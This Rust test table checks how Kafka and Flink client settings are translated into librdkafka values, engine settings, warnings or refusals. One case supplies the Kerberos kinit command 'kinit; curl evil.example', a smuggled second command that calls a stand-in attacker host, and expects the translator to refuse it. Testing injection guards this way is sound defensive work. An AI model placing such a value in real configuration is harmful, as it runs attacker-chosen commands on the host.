//! One case or more for every row: what is set, and what has to come of it.

use std::time::Duration;

use super::super::{
    AutoOffsetReset, BadRecords, Codec, DeadLetterFormat, EngineSettings, EpochBump, PartitionerChoice, Role, Semantic,
};

/// What has to come of a setting.
pub(super) enum Expect {
    /// A live client has these values.
    Client(&'static [(&'static str, &'static str)]),
    /// As `Client`, or, in a build without OpenID Connect, librdkafka's refusal for that reason.
    Oidc(&'static [(&'static str, &'static str)]),
    /// The engine's settings say so.
    Engine(fn(&EngineSettings) -> bool),
    /// The line of keys without effect names it.
    Ignored,
    /// A warning of its own contains this.
    Warned(&'static str),
    /// Nothing comes of it and nothing is said.
    Quiet,
    /// A problem under this key contains this.
    Refused(&'static str),
}

/// One case; the first pair is the row under test, the others go with it.
pub(super) struct Case {
    pub(super) settings: &'static [(&'static str, &'static str)],
    /// The only role to try; without one, those that the row is for.
    pub(super) role: Option<Role>,
    pub(super) expect: Expect,
}

use Expect::{Client, Engine, Ignored, Oidc, Quiet, Refused, Warned};

macro_rules! cases {
    ($($settings:expr, $expect:expr;)*) => {
        &[$(Case { settings: &$settings, role: None, expect: $expect }),*]
    };
}

const JWT_BEARER: &str = "urn:ietf:params:oauth:grant-type:jwt-bearer";
const PEM: &str = "-----BEGIN CERTIFICATE-----";

/// Cases that run under every role that the row is for.
pub(super) const CASES: &[Case] = cases! {
    [("acks", "all")], Client(&[("acks", "-1")]);
    [("acks", "1")], Client(&[("acks", "1"), ("enable.idempotence", "false")]);
    [("allow.auto.create.topics", "TRUE")], Client(&[("allow.auto.create.topics", "true")]);
    [("auto.commit.interval.ms", "250")], Engine(|e| e.auto_commit_interval == Duration::from_millis(250));
    [("auto.offset.reset", "earliest")], Client(&[("auto.offset.reset", "smallest")]);
    [("auto.offset.reset", "LATEST")], Client(&[("auto.offset.reset", "largest")]);
    [("auto.offset.reset", "none")], Client(&[("auto.offset.reset", "error")]);
    [("auto.offset.reset", "by_duration:PT1H")], Client(&[("auto.offset.reset", "error")]);
    [("auto.offset.reset", "by_duration:P1DT2H3M4.5S")], Engine(|e| e.auto_offset_reset == Some(AutoOffsetReset::ByDuration(Duration::from_millis(93_784_500))));
    [("auto.offset.reset", "sometimes")], Refused("is not a known position");
    [("auto.offset.reset", "by_duration:-PT1H")], Refused("is not a known position");
    [("auto.offset.reset", "by_duration:PT")], Refused("is not a known position");
    [("batch.size", "32768")], Client(&[("batch.size", "32768")]);
    [("batch.size", "0")], Client(&[("batch.size", "1")]);
    [("bootstrap.servers", "a:1, b:2  [::1]:3")], Client(&[("bootstrap.servers", "a:1,b:2,[::1]:3")]);
    [("bootstrap.servers", "a:b")], Refused("`a:b` under `bootstrap.servers` has no valid port");
    [("bootstrap.servers", "::1:9092")], Refused("looks like IPv6 without brackets");
    [("buffer.memory", "1025")], Client(&[("queue.buffering.max.kbytes", "2"), ("queue.buffering.max.messages", "0")]);
    [("buffer.memory", "33554432"), ("queue.buffering.max.messages", "7")], Client(&[("queue.buffering.max.kbytes", "32768"), ("queue.buffering.max.messages", "7")]);
    [("check.crcs", "false")], Client(&[("check.crcs", "false")]);
    [("client.dns.lookup", "resolve_canonical_bootstrap_servers_only")], Client(&[("client.dns.lookup", "resolve_canonical_bootstrap_servers_only")]);
    [("client.id", "007")], Client(&[("client.id", "007")]);
    [("client.rack", "eu-1a")], Client(&[("client.rack", "eu-1a")]);
    [("commit.epoch-bump", "always")], Engine(|e| e.epoch_bump == Some(EpochBump::Always));
    [("commit.epoch-bump", "on_disturbance")], Engine(|e| e.epoch_bump == Some(EpochBump::OnDisturbance));
    [("commit.epoch-bump", "never")], Refused("always");
    [("commit.marker-topic", "markers")], Engine(|e| e.marker_topic.as_deref() == Some("markers"));
    [("compression.gzip.level", "7"), ("compression.type", "gzip")], Client(&[("compression.level", "7")]);
    [("compression.gzip.level", "7")], Ignored;
    [("compression.lz4.level", "9"), ("compression.type", "lz4")], Client(&[("compression.level", "9")]);
    [("compression.lz4.level", "17"), ("compression.type", "lz4")], Client(&[("compression.level", "12")]);
    [("compression.lz4.level", "17"), ("compression.type", "lz4")], Warned("`compression.lz4.level` became 12");
    [("compression.type", "LZ4")], Client(&[("compression.type", "lz4")]);
    [("compression.type", "zstd")], Client(&[("compression.type", "zstd")]);
    [("compression.type", "brotli")], Refused("is not one of `none`, `gzip`");
    [("compression.zstd.level", "19"), ("compression.type", "zstd")], Client(&[("compression.level", "12")]);
    [("compression.zstd.level", "-5"), ("compression.type", "zstd")], Warned("`compression.zstd.level` became -1");
    [("config.providers", "file,env")], Engine(|_| true);
    [("config.providers.env.class", "org.apache.kafka.common.config.provider.EnvVarConfigProvider")], Engine(|_| true);
    [("config.providers.vault.class", "com.acme.Vault")], Refused("names a Java class");
    [("config.providers.file.param.allowed.paths", "/run")], Warned("is not enforced");
    [("connections.max.idle.ms", "540000")], Client(&[("connections.max.idle.ms", "540000")]);
    [("connections.max.idle.ms", "-1")], Client(&[("connections.max.idle.ms", "0")]);
    [("default.api.timeout.ms", "1500")], Engine(|e| e.default_api_timeout == Duration::from_millis(1_500));
    [("delivery.timeout.ms", "90000")], Client(&[("delivery.timeout.ms", "90000"), ("message.timeout.ms", "90000")]);
    [("delivery.timeout.ms", "90000"), ("semantic", "exactly_once")], Client(&[("delivery.timeout.ms", "60000")]);
    [("delivery.timeout.ms", "90000"), ("semantic", "exactly_once")], Warned("`delivery.timeout.ms` was lowered to 60000");
    [("delivery.timeout.ms", "20"), ("linger.ms", "20")], Refused("is not more than `linger.ms`");
    [("enable.auto.commit", "true")], Client(&[("enable.auto.commit", "false"), ("enable.auto.offset.store", "false")]);
    [("enable.auto.commit", "true")], Engine(|e| e.enable_auto_commit == Some(true));
    [("enable.idempotence", "false")], Client(&[("enable.idempotence", "false")]);
    [("enable.idempotence", "true")], Client(&[("enable.idempotence", "true")]);
    [("enable.metrics.push", "false")], Client(&[("enable.metrics.push", "false")]);
    [("exclude.internal.topics", "true")], Client(&[("topic.blacklist", "^__(consumer_offsets|transaction_state|share_group_state)$")]);
    [("exclude.internal.topics", "false")], Engine(|e| !e.exclude_internal_topics);
    [("fetch.max.bytes", "2000000")], Client(&[("fetch.max.bytes", "2000000")]);
    [("fetch.max.bytes", "1024")], Client(&[("fetch.max.bytes", "1000000")]);
    [("fetch.max.bytes", "2147483647")], Client(&[("fetch.max.bytes", "2147483135")]);
    [("fetch.max.wait.ms", "123")], Client(&[("fetch.wait.max.ms", "123")]);
    [("fetch.min.bytes", "9")], Client(&[("fetch.min.bytes", "9")]);
    [("fetch.min.bytes", "0")], Client(&[("fetch.min.bytes", "1")]);
    [("group.id", "user_01")], Client(&[("group.id", "user_01")]);
    [("group.id", "user_01")], Engine(|e| e.group_id.as_deref() == Some("user_01"));
    [("group.instance.id", "one"), ("group.id", "g")], Client(&[("group.instance.id", "one")]);
    [("group.instance.id", "one"), ("group.id", "g")], Warned("`group.instance.id` has no effect");
    [("group.protocol", "CONSUMER"), ("group.id", "g")], Client(&[("group.protocol", "consumer")]);
    [("group.remote.assignor", "range"), ("group.protocol", "consumer"), ("group.id", "g")], Client(&[("group.remote.assignor", "range")]);
    [("group.remote.assignor", "range")], Refused("needs `group.protocol: consumer`");
    [("heartbeat.interval.ms", "1234")], Client(&[("heartbeat.interval.ms", "1234")]);
    [("interceptor.classes", "com.acme.Spy")], Refused("`com.acme.Spy` is a Java class");
    [("interceptor.classes", "")], Quiet;
    [("interceptor.classes", "io.opentelemetry.instrumentation.kafkaclients.v2_6.TracingConsumerInterceptor")], Warned("`TracingConsumerInterceptor` is left out");
    [("interceptor.classes", "io.confluent.monitoring.clients.interceptor.MonitoringProducerInterceptor")], Warned("`MonitoringProducerInterceptor` is left out");
    [("internal.throw.on.fetch.stable.offset.unsupported", "true")], Ignored;
    [("isolation.level", "READ_COMMITTED")], Client(&[("isolation.level", "read_committed")]);
    [("isolation.level", "read_uncommitted")], Client(&[("isolation.level", "read_uncommitted")]);
    [("key.deserializer", "org.apache.kafka.common.serialization.LongDeserializer")], Engine(|e| e.key_codec == Some(Codec::Long));
    [("key.deserializer", "com.acme.StringDeserializer")], Refused("is a Java class");
    [("key.serializer", "org.apache.kafka.common.serialization.UUIDSerializer")], Engine(|e| e.key_codec == Some(Codec::Uuid));
    [("linger.ms", "20")], Client(&[("linger.ms", "20")]);
    [("max.block.ms", "1500")], Engine(|e| e.max_block == Duration::from_millis(1_500));
    [("max.in.flight.requests.per.connection", "3")], Client(&[("max.in.flight.requests.per.connection", "3")]);
    [("max.in.flight.requests.per.connection", "6")], Client(&[("max.in.flight.requests.per.connection", "6"), ("enable.idempotence", "false")]);
    [("max.partition.fetch.bytes", "2048")], Client(&[("max.partition.fetch.bytes", "2048")]);
    [("max.partition.fetch.bytes", "0")], Client(&[("fetch.message.max.bytes", "1")]);
    [("max.poll.interval.ms", "310000")], Client(&[("max.poll.interval.ms", "310000")]);
    [("max.poll.interval.ms", "10000")], Client(&[("max.poll.interval.ms", "10000"), ("session.timeout.ms", "10000")]);
    [("max.poll.records", "200")], Engine(|e| e.max_poll_records == Some(200));
    [("max.poll.records", "many")], Refused("`many` under `max.poll.records` is not a whole number, 1 or more");
    [("max.request.size", "2000000")], Client(&[("message.max.bytes", "2000000")]);
    [("metadata.max.age.ms", "60000")], Client(&[("topic.metadata.refresh.interval.ms", "60000"), ("metadata.max.age.ms", "180000")]);
    [("metadata.max.age.ms", "0")], Client(&[("topic.metadata.refresh.interval.ms", "1"), ("metadata.max.age.ms", "3")]);
    [("metadata.max.age.ms", "7200000")], Warned("`metadata.max.age.ms` became 3600000");
    [("metadata.max.idle.ms", "1")], Ignored;
    [("metadata.recovery.rebootstrap.trigger.ms", "1234")], Client(&[("metadata.recovery.rebootstrap.trigger.ms", "1234")]);
    [("metadata.recovery.strategy", "NONE")], Client(&[("metadata.recovery.strategy", "none")]);
    [("metric.reporters", "com.acme.Reporter")], Ignored;
    [("metric.reporters", "org.apache.kafka.common.metrics.JmxReporter")], Quiet;
    [("metrics.num.samples", "2")], Ignored;
    [("metrics.recording.level", "DEBUG")], Ignored;
    [("metrics.sample.window.ms", "1")], Ignored;
    [("partition.assignment.strategy", "org.apache.kafka.clients.consumer.RoundRobinAssignor")], Client(&[("partition.assignment.strategy", "roundrobin")]);
    [("partition.assignment.strategy", "org.apache.kafka.clients.consumer.RangeAssignor, org.apache.kafka.clients.consumer.CooperativeStickyAssignor"), ("group.id", "g")], Client(&[("partition.assignment.strategy", "range")]);
    [("partition.assignment.strategy", "org.apache.kafka.clients.consumer.RangeAssignor,org.apache.kafka.clients.consumer.CooperativeStickyAssignor")], Warned("kept `range`");
    [("partition.assignment.strategy", "org.apache.kafka.clients.consumer.StickyAssignor")], Refused("the eager `StickyAssignor`");
    [("partition.assignment.strategy", "com.acme.Mine")], Refused("`com.acme.Mine` is a Java class");
    [("partitioner.adaptive.partitioning.enable", "true")], Ignored;
    [("partitioner.availability.timeout.ms", "1")], Ignored;
    [("partitioner.class", "org.apache.kafka.clients.producer.RoundRobinPartitioner")], Client(&[("partitioner", "murmur2_random")]);
    [("partitioner.class", "org.apache.kafka.clients.producer.RoundRobinPartitioner")], Engine(|e| e.partitioner == PartitionerChoice::RoundRobin);
    [("partitioner.class", "org.apache.kafka.clients.producer.internals.DefaultPartitioner")], Engine(|e| e.partitioner == PartitionerChoice::Murmur2);
    [("partitioner.class", "org.apache.kafka.clients.producer.UniformStickyPartitioner")], Warned("left Kafka with 4.0");
    [("partitioner.class", "com.acme.Mine")], Refused("is a Java class");
    [("partitioner.ignore.keys", "true")], Client(&[("partitioner", "random")]);
    [("partitioner.ignore.keys", "true")], Engine(|e| e.partitioner == PartitionerChoice::IgnoreKeys);
    [("partitioner.ignore.keys", "false")], Client(&[("partitioner", "murmur2_random")]);
    [("receive.buffer.bytes", "65536")], Client(&[("socket.receive.buffer.bytes", "65536")]);
    [("receive.buffer.bytes", "-1")], Client(&[("socket.receive.buffer.bytes", "0")]);
    [("reconnect.backoff.max.ms", "2000")], Client(&[("reconnect.backoff.max.ms", "2000")]);
    [("reconnect.backoff.max.ms", "60")], Client(&[("reconnect.backoff.max.ms", "60"), ("reconnect.backoff.ms", "60")]);
    [("reconnect.backoff.ms", "70")], Client(&[("reconnect.backoff.ms", "70"), ("reconnect.backoff.max.ms", "10000")]);
    [("reconnect.backoff.ms", "20000")], Client(&[("reconnect.backoff.ms", "20000"), ("reconnect.backoff.max.ms", "20000")]);
    [("request.timeout.ms", "5")], Client(&[("socket.timeout.ms", "10")]);
    [("request.timeout.ms", "40000")], Client(&[("socket.timeout.ms", "40000")]);
    [("retries", "9")], Client(&[("retries", "9")]);
    [("retry.backoff.max.ms", "2000")], Client(&[("retry.backoff.max.ms", "2000")]);
    [("retry.backoff.ms", "70")], Client(&[("retry.backoff.ms", "70")]);
    [("retry.backoff.ms", "0")], Client(&[("retry.backoff.ms", "1")]);
    [("sasl.client.callback.handler.class", "com.acme.Mine")], Refused("a Java class cannot run here");
    [("sasl.client.callback.handler.class", "software.amazon.msk.auth.iam.IAMClientCallbackHandler")], Quiet;
    [("sasl.jaas.config", "org.apache.kafka.common.security.plain.PlainLoginModule required username=\"ann\" password=\"s;e c\\\"ret\";")], Client(&[("sasl.username", "ann"), ("sasl.password", "s;e c\"ret")]);
    [("sasl.jaas.config", "org.apache.flink.kafka.shaded.org.apache.kafka.common.security.scram.ScramLoginModule  required\n username='ann'\n password=word ;")], Client(&[("sasl.username", "ann"), ("sasl.password", "word")]);
    [("sasl.jaas.config", "org.apache.kafka.common.security.scram.ScramLoginModule required username=\"a\" password=\"b\" tokenauth=\"true\";")], Refused("delegation tokens");
    [("sasl.jaas.config", "org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule required clientId=\"id\" clientSecret=\"hush\" scope=\"kafka\" extension_a=\"1\" extension_b=\"2\";")], Oidc(&[("sasl.oauthbearer.client.id", "id"), ("sasl.oauthbearer.client.secret", "hush"), ("sasl.oauthbearer.scope", "kafka"), ("sasl.oauthbearer.extensions", "a=1,b=2"), ("sasl.oauthbearer.method", "oidc")]);
    [("sasl.jaas.config", "org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule required unsecuredLoginStringClaim_sub=\"dev\";")], Client(&[("enable.sasl.oauthbearer.unsecure.jwt", "true"), ("sasl.oauthbearer.config", "principal=dev")]);
    [("sasl.jaas.config", "com.sun.security.auth.module.Krb5LoginModule required useKeyTab=true storeKey=true keyTab=\"/etc/k.keytab\" principal=\"ann/host@REALM\" serviceName=\"broker\";")], Client(&[("sasl.kerberos.principal", "ann/host@REALM"), ("sasl.kerberos.keytab", "/etc/k.keytab"), ("sasl.kerberos.service.name", "broker")]);
    [("sasl.jaas.config", "com.sun.security.auth.module.Krb5LoginModule required useTicketCache=true;")], Client(&[("sasl.kerberos.min.time.before.relogin", "0")]);
    [("sasl.jaas.config", "software.amazon.msk.auth.iam.IAMLoginModule required;")], Refused("needs a token provider");
    [("sasl.jaas.config", "com.acme.LoginModule required;")], Refused("names a login module that does not exist here");
    [("sasl.kerberos.kinit.cmd", "/usr/bin/kinit")], Client(&[("sasl.kerberos.kinit.cmd", "/usr/bin/kinit -R -t \"%{sasl.kerberos.keytab}\" -k %{sasl.kerberos.principal} || /usr/bin/kinit -t \"%{sasl.kerberos.keytab}\" -k %{sasl.kerberos.principal}")]);
    [("sasl.kerberos.kinit.cmd", "kinit; curl evil.example")], Refused("is not a plain path");
    [("sasl.kerberos.min.time.before.relogin", "1234")], Client(&[("sasl.kerberos.min.time.before.relogin", "1234")]);
    [("sasl.kerberos.service.name", "broker")], Client(&[("sasl.kerberos.service.name", "broker")]);
    [("sasl.kerberos.ticket.renew.jitter", "0.1")], Ignored;
    [("sasl.kerberos.ticket.renew.window.factor", "0.8")], Ignored;
    [("sasl.login.callback.handler.class", "org.apache.kafka.common.security.oauthbearer.secured.OAuthBearerLoginCallbackHandler")], Oidc(&[("sasl.oauthbearer.method", "oidc")]);
    [("sasl.login.callback.handler.class", "com.acme.Mine")], Refused("needs a token provider");
    [("sasl.login.class", "com.acme.Mine")], Refused("a Java class cannot run here");
    [("sasl.login.connect.timeout.ms", "1")], Ignored;
    [("sasl.login.read.timeout.ms", "1")], Ignored;
    [("sasl.login.refresh.buffer.seconds", "1")], Ignored;
    [("sasl.login.refresh.min.period.seconds", "1")], Ignored;
    [("sasl.login.refresh.window.factor", "1")], Ignored;
    [("sasl.login.refresh.window.jitter", "1")], Ignored;
    [("sasl.login.retry.backoff.max.ms", "1")], Ignored;
    [("sasl.login.retry.backoff.ms", "1")], Ignored;
    [("sasl.mechanism", "scram-sha-512")], Client(&[("sasl.mechanism", "SCRAM-SHA-512")]);
    [("sasl.mechanism", "PLAIN"), ("security.protocol", "SASL_PLAINTEXT"), ("sasl.username", "ann"), ("sasl.password", "word")], Client(&[("sasl.mechanisms", "PLAIN")]);
    [("sasl.mechanism", "AWS_MSK_IAM")], Refused("needs a token provider");
    [("sasl.oauthbearer.assertion.algorithm", "ES256")], Oidc(&[("sasl.oauthbearer.assertion.algorithm", "ES256"), ("sasl.oauthbearer.grant.type", JWT_BEARER)]);
    [("sasl.oauthbearer.assertion.claim.aud", "x")], Oidc(&[("sasl.oauthbearer.assertion.claim.aud", "x")]);
    [("sasl.oauthbearer.assertion.claim.exp.seconds", "77")], Oidc(&[("sasl.oauthbearer.assertion.claim.exp.seconds", "77")]);
    [("sasl.oauthbearer.assertion.claim.iss", "x")], Oidc(&[("sasl.oauthbearer.assertion.claim.iss", "x")]);
    [("sasl.oauthbearer.assertion.claim.jti.include", "true")], Oidc(&[("sasl.oauthbearer.assertion.claim.jti.include", "true")]);
    [("sasl.oauthbearer.assertion.claim.nbf.seconds", "77")], Oidc(&[("sasl.oauthbearer.assertion.claim.nbf.seconds", "77")]);
    [("sasl.oauthbearer.assertion.claim.sub", "x")], Oidc(&[("sasl.oauthbearer.assertion.claim.sub", "x")]);
    [("sasl.oauthbearer.assertion.file", "/a")], Oidc(&[("sasl.oauthbearer.assertion.file", "/a")]);
    [("sasl.oauthbearer.assertion.private.key.file", "/a")], Oidc(&[("sasl.oauthbearer.assertion.private.key.file", "/a")]);
    [("sasl.oauthbearer.assertion.private.key.passphrase", "x")], Oidc(&[("sasl.oauthbearer.assertion.private.key.passphrase", "x")]);
    [("sasl.oauthbearer.assertion.template.file", "/a")], Oidc(&[("sasl.oauthbearer.assertion.jwt.template.file", "/a")]);
    [("sasl.oauthbearer.client.credentials.client.id", "x")], Oidc(&[("sasl.oauthbearer.client.id", "x")]);
    [("sasl.oauthbearer.client.credentials.client.secret", "x")], Oidc(&[("sasl.oauthbearer.client.secret", "x")]);
    [("sasl.oauthbearer.clock.skew.seconds", "1")], Ignored;
    [("sasl.oauthbearer.expected.audience", "x")], Ignored;
    [("sasl.oauthbearer.expected.issuer", "x")], Ignored;
    [("sasl.oauthbearer.header.urlencode", "true")], Refused("cannot encode the header");
    [("sasl.oauthbearer.header.urlencode", "false")], Quiet;
    [("sasl.oauthbearer.jwks.endpoint.refresh.ms", "1")], Ignored;
    [("sasl.oauthbearer.jwks.endpoint.retry.backoff.max.ms", "1")], Ignored;
    [("sasl.oauthbearer.jwks.endpoint.retry.backoff.ms", "1")], Ignored;
    [("sasl.oauthbearer.jwks.endpoint.url", "https://x")], Ignored;
    [("sasl.oauthbearer.jwt.retriever.class", "org.apache.kafka.common.security.oauthbearer.ClientCredentialsJwtRetriever")], Oidc(&[("sasl.oauthbearer.grant.type", "client_credentials")]);
    [("sasl.oauthbearer.jwt.retriever.class", "org.apache.kafka.common.security.oauthbearer.JwtBearerJwtRetriever")], Oidc(&[("sasl.oauthbearer.grant.type", JWT_BEARER)]);
    [("sasl.oauthbearer.jwt.retriever.class", "org.apache.kafka.common.security.oauthbearer.FileJwtRetriever")], Refused("`FileJwtRetriever` needs a token provider");
    [("sasl.oauthbearer.jwt.validator.class", "com.acme.Mine")], Ignored;
    [("sasl.oauthbearer.jwt.validator.class", "org.apache.kafka.common.security.oauthbearer.BrokerJwtValidator")], Quiet;
    [("sasl.oauthbearer.scope", "kafka")], Oidc(&[("sasl.oauthbearer.scope", "kafka")]);
    [("sasl.oauthbearer.scope.claim.name", "x")], Ignored;
    [("sasl.oauthbearer.sub.claim.name", "x")], Ignored;
    [("sasl.oauthbearer.token.endpoint.url", "https://x/token")], Oidc(&[("sasl.oauthbearer.token.endpoint.url", "https://x/token"), ("sasl.oauthbearer.method", "oidc")]);
    [("sasl.oauthbearer.token.endpoint.url", "file:///run/token")], Refused("a token file needs a token provider");
    [("security.protocol", "SASL_PLAINTEXT"), ("sasl.mechanism", "PLAIN"), ("sasl.username", "a"), ("sasl.password", "b")], Client(&[("security.protocol", "sasl_plaintext")]);
    [("security.protocol", "SSL")], Client(&[("security.protocol", "ssl")]);
    [("security.providers", "com.acme.Fips")], Refused("could drop a requirement such as FIPS");
    [("send.buffer.bytes", "131072")], Client(&[("socket.send.buffer.bytes", "131072")]);
    [("send.buffer.bytes", "-1")], Client(&[("socket.send.buffer.bytes", "0")]);
    [("session.timeout.ms", "30000")], Client(&[("session.timeout.ms", "30000")]);
    [("session.timeout.ms", "600000")], Client(&[("session.timeout.ms", "600000"), ("max.poll.interval.ms", "600000")]);
    [("share.acknowledgement.mode", "explicit")], Refused("share groups are not built");
    [("share.acknowledgement.mode", "implicit")], Quiet;
    [("share.acquire.mode", "record_limit")], Refused("share groups are not built");
    [("share.acquire.mode", "batch_optimized")], Quiet;
    [("socket.connection.setup.timeout.max.ms", "1")], Ignored;
    [("socket.connection.setup.timeout.ms", "10000")], Client(&[("socket.connection.setup.timeout.ms", "10000")]);
    [("socket.connection.setup.timeout.ms", "10")], Client(&[("socket.connection.setup.timeout.ms", "1000")]);
    [("ssl.cipher.suites", "TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256,TLS_RSA_WITH_AES_256_CBC_SHA,TLS_AES_128_GCM_SHA256"), ("security.protocol", "SSL")], Client(&[("ssl.cipher.suites", "ECDHE-RSA-AES128-GCM-SHA256:AES256-SHA")]);
    [("ssl.cipher.suites", "TLS_AES_128_GCM_SHA256")], Warned("TLS 1.3 suites cannot be chosen here, left out: TLS_AES_128_GCM_SHA256");
    [("ssl.cipher.suites", "TLS_NULL_WITH_NULL_NULL")], Refused("has no name in OpenSSL");
    [("ssl.enabled.protocols", "TLSv1.2,TLSv1.3")], Ignored;
    [("ssl.enabled.protocols", "TLSv1.3")], Warned("excludes TLS 1.2, which cannot be enforced");
    [("ssl.endpoint.identification.algorithm", "")], Client(&[("ssl.endpoint.identification.algorithm", "none")]);
    [("ssl.endpoint.identification.algorithm", "HTTPS")], Client(&[("ssl.endpoint.identification.algorithm", "https")]);
    [("ssl.endpoint.identification.algorithm", "LDAPS")], Refused("is not a known check");
    [("ssl.engine.factory.class", "com.acme.Mine")], Refused("a Java class cannot run here");
    [("ssl.key.password", "x")], Client(&[("ssl.key.password", "x")]);
    [("ssl.keymanager.algorithm", "PKIX")], Ignored;
    [("ssl.keymanager.algorithm", "SunX509")], Quiet;
    [("ssl.keystore.certificate.chain", PEM)], Client(&[("ssl.certificate.pem", PEM)]);
    [("ssl.keystore.key", "-----BEGIN PRIVATE KEY-----")], Client(&[("ssl.key.pem", "-----BEGIN PRIVATE KEY-----")]);
    [("ssl.keystore.location", "/a.p12"), ("ssl.keystore.password", "x")], Client(&[("ssl.keystore.location", "/a.p12"), ("ssl.keystore.password", "x")]);
    [("ssl.keystore.location", "/a.pem")], Client(&[("ssl.certificate.location", "/a.pem"), ("ssl.key.location", "/a.pem")]);
    [("ssl.keystore.location", "/a.jks"), ("ssl.keystore.password", "x")], Refused("is a Java key store");
    [("ssl.keystore.password", "x"), ("ssl.keystore.location", "/a"), ("ssl.keystore.type", "PKCS12")], Client(&[("ssl.keystore.password", "x")]);
    [("ssl.keystore.password", "x"), ("ssl.keystore.location", "/a.pem")], Refused("PEM has no store password");
    [("ssl.keystore.type", "pem"), ("ssl.keystore.location", "/a")], Client(&[("ssl.key.location", "/a")]);
    [("ssl.protocol", "TLSv1.2")], Ignored;
    [("ssl.provider", "BC")], Refused("names a Java security provider");
    [("ssl.secure.random.implementation", "x")], Ignored;
    [("ssl.trustmanager.algorithm", "PKIX")], Quiet;
    [("ssl.trustmanager.algorithm", "SunX509")], Ignored;
    [("ssl.truststore.certificates", PEM)], Client(&[("ssl.ca.pem", PEM)]);
    [("ssl.truststore.location", "/ca.crt")], Client(&[("ssl.ca.location", "/ca.crt")]);
    [("ssl.truststore.location", "/ca.p12")], Refused("is a PKCS12 trust store");
    [("ssl.truststore.location", "/ca.jks")], Refused("is a Java trust store");
    [("ssl.truststore.password", "x"), ("ssl.truststore.location", "/ca.pem")], Refused("PEM has no store password");
    [("ssl.truststore.password", "x")], Ignored;
    [("ssl.truststore.type", "PEM"), ("ssl.truststore.location", "/ca")], Client(&[("ssl.ca.location", "/ca")]);
    [("transaction.timeout.ms", "70000")], Client(&[("transaction.timeout.ms", "70000")]);
    [("transaction.timeout.ms", "1"), ("semantic", "AT_LEAST_ONCE")], Client(&[("transaction.timeout.ms", "1000")]);
    [("transaction.timeout.ms", "3600000"), ("semantic", "EXACTLY_ONCE")], Warned("transaction.max.timeout.ms, 900000 by default");
    [("transaction.two.phase.commit.enable", "true")], Refused("cannot resume a prepared transaction");
    [("transaction.two.phase.commit.enable", "false")], Quiet;
    [("transactional.id", "mine")], Client(&[("transactional.id", "mine"), ("enable.idempotence", "true"), ("delivery.timeout.ms", "60000"), ("socket.timeout.ms", "30000")]);
    [("transactional.id", "mine")], Engine(|e| e.transactional_id.as_deref() == Some("mine"));
    [("transactional.id", "mine"), ("semantic", "EXACTLY_ONCE")], Refused("the engine names its own");
    [("value.deserializer", "io.confluent.kafka.serializers.KafkaAvroDeserializer")], Engine(|e| e.value_codec == Some(Codec::Avro));
    [("value.serializer", "org.springframework.kafka.support.serializer.JsonSerializer")], Engine(|e| e.value_codec == Some(Codec::Json));
    [("value.serializer", "org.apache.kafka.common.serialization.StringDeserializer")], Refused("is a deserializer");
    [("auto.include.jmx.reporter", "true")], Ignored;
    [("block.on.buffer.full", "true")], Ignored;
    [("metadata.fetch.timeout.ms", "1")], Ignored;
    [("timeout.ms", "1")], Ignored;
    [("zookeeper.connect", "z:2181")], Refused("consumers left ZooKeeper");
    [("ssl.truststore.pem", PEM)], Refused("no such key");
    [("sasl.mechanisms", "PLAIN")], Client(&[("sasl.mechanism", "PLAIN")]);
    [("metadata.broker.list", "a:1")], Client(&[("bootstrap.servers", "a:1")]);
    [("schema.registry.url", "http://r")], Engine(|e| e.schema_registry.as_ref().is_some_and(|r| r.url == "http://r"));
    [("topic", "user_01")], Engine(|e| e.topics == ["user_01"]);
    [("pattern", "^topic[1-9]")], Engine(|e| e.pattern.as_deref() == Some("^topic[1-9]"));
    [("semantic", "exactly-once")], Engine(|e| e.semantic == Semantic::ExactlyOnce);
    [("semantic", "NONE")], Engine(|e| e.semantic == Semantic::None);
    [("semantic", "TWICE")], Refused("is not a guarantee");
    [("start.from.timestamp", "1591286400000")], Engine(|e| e.start_from_timestamp == Some(1_591_286_400_000));
    [("start.from.offset.topic", "a"), ("start.from.offset.a", "0:182,1:183")], Engine(|e| e.start_from_offsets["a"] == [(0, 182), (1, 183)]);
    [("start.from.offset.topic", "0:7")], Engine(|e| e.start_from_offsets["topic"] == [(0, 7)]);
    [("start.from.offset.a.b", "0:182")], Engine(|e| e.start_from_offsets["a.b"] == [(0, 182)]);
    [("alias", "kafka1")], Engine(|e| e.alias.as_deref() == Some("kafka1"));
    [("alias", "topic")], Refused("is also the name of a Kafka key");
    [("flink.partition-discovery.interval-millis", "1000")], Engine(|e| e.partition_discovery_interval == Some(Duration::from_secs(1)));
    [("flink.partition-discovery.interval-millis", "-1")], Engine(|e| e.partition_discovery_interval.is_none());
    [("partition.discovery.interval.ms", "1000")], Engine(|e| e.partition_discovery_interval == Some(Duration::from_secs(1)));
    [("client.id.prefix", "job")], Client(&[("client.id", "job")]);
    [("client.id.prefix", "job")], Engine(|e| e.client_id_prefix.as_deref() == Some("job"));
    [("commit.offsets.on.checkpoint", "false")], Engine(|e| !e.commit_offsets_on_checkpoint);
    [("on_bad_record", "fail")], Engine(|e| e.on_bad_record == Some(BadRecords::Fail));
    [("on_bad_record", "Skip")], Engine(|e| e.on_bad_record == Some(BadRecords::Skip));
    [("on_bad_record", "dead_letter( users.dead )")], Engine(|e| e.on_bad_record == Some(BadRecords::dead_letter("users.dead")));
    [("on_bad_record", "dead_letter")], Refused("names no topic");
    [("on_bad_record", "dead_letter()")], Refused("names no topic");
    [("on_bad_record", "dead_letter(a")], Refused("names no topic");
    [("on_bad_record", "dead_letter(a b)")], Refused("`a b` under `on_bad_record` is not a topic name");
    [("on_bad_record", "skip(")], Refused("is not one of");
    [("on_bad_record", "drop")], Refused("is not one of");
    [("bad_records.max_ratio", "0.5")], Engine(|e| e.bad_records_max_ratio == Some(0.5));
    [("bad_records.max_ratio", "1")], Engine(|e| e.bad_records_max_ratio == Some(1.0));
    [("bad_records.max_ratio", "90")], Refused("is not a number from 0 to 1");
    [("bad_records.max_ratio", "NaN")], Refused("is not a number from 0 to 1");
    [("bad_records.window", "50")], Engine(|e| e.bad_records_window == Some(50));
    [("bad_records.window", "0")], Refused("is not a whole number from 1 to 1000000");
    [("dead_letter.format", "CONNECT")], Engine(|e| e.dead_letter_format == Some(DeadLetterFormat::Connect));
    [("dead_letter.format", "streams")], Engine(|e| e.dead_letter_format == Some(DeadLetterFormat::Streams));
    [("dead_letter.format", "flink")], Refused("is not one of");
    [("register.consumer.metrics", "true")], Ignored;
    [("properties.client.id", "job")], Client(&[("client.id", "job")]);
};

